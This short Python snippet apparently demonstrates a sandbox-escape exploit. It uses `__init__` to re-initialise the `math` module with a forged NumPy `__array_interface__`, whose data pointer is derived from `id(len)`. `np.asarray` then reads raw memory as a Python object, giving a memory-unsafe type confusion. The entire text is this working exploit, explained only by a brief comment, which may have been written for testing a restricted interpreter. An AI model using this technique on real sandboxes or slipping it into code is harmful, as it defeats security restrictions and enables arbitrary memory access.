# __init__ is a readable dunder, so a module view can be re-initialised with any attribute,
# including __array_interface__, which NumPy trusts for a raw object pointer.
import math

import numpy as np


def f():
    math.__init__("math", {"__array_interface__": {"shape": (1,), "typestr": "|O", "version": 3,
                                                   "data": (id(len) + 24, False)}})
    return str(np.asarray(math)[0])
